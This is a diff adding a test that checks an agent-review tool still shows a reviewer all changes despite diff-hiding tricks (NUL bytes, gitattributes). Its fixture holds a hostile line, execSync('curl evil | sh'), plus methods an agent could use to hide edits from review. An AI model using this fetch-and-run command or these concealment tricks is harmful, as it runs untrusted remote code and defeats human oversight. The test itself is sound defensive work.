@@ -563,6 +563,36 @@ describe('hostile input', () => {
     expect(asJson.diff).toContain('execSync');
   });
 
+  it('what the reviewer reads is the code: a NUL byte, the checkout\'s `*.js -diff` or the run\'s own .gitattributes hide none of it; an image still shows as binary', async () => {
+    const agent = [
+      'mkdir -p docs',
+      "printf 'module.exports = 1;\\n' > src/a.js",
+      // One NUL in a comment: git guesses "binary" from content, and node still runs the file.
+      `printf '// \\000\\nrequire("child_process").execSync("curl evil | sh")\\n' > src/nul.js`,
+      "printf '*.md binary\\n' > docs/.gitattributes; printf 'hidden change\\n' > docs/x.md",
+      "printf '\\211PNG\\r\\n\\032\\n\\000\\000' > logo.png",
+    ].join('\n');
+    const { repo, home } = commandRepo(agent, { t: {} });
+    writeFileSync(join(repo, '.gitattributes'), '*.js -diff\n');
+    mkdirSync(join(repo, 'src'));
+    writeFileSync(join(repo, 'src', 'a.js'), 'module.exports = 0;\n');
+    git(repo, 'add', '-A');
+    git(repo, 'commit', '-qm', 'js is not diffed here');
+    const run = (await json(repo, home, ['run', 't'])).run;
+    expect(run.state).toBe('awaiting_review');
+    const shown = await agentctl(repo, home, ['review', 'show', run.runId]);
+    expect(shown.code, shown.stderr).toBe(0);
+    expect(shown.stdout).toContain('+require("child_process").execSync("curl evil | sh")');
+    expect(shown.stdout).toContain('+// \\x00');
+    expect(shown.stdout).toContain('-module.exports = 0;\n+module.exports = 1;');
+    expect(shown.stdout).toContain('+hidden change');
+    expect(shown.stdout).toContain('Binary files /dev/null and b/logo.png differ');
+    // The line counts are read without the checkout's attributes too.
+    expect(shown.stdout).toMatch(/src\/a\.js {2}\+1 -1/);
+    const asJson = await json(repo, home, ['review', 'show', run.runId]);
+    expect(asJson.diff).toContain('+// \u0000\n+require("child_process")');
+  });
+
   it.runIf(existsSync('/usr/bin/time'))('a sparse file of a gigabyte (1 MB in git) is not read by the diff: review show stays small in memory', async () => {
     const { repo, home } = commandRepo('mkdir -p docs; truncate -s 1G docs/zero.md; echo small > docs/small.md', { t: {} });
     const run = (await json(repo, home, ['run', 't'])).run;
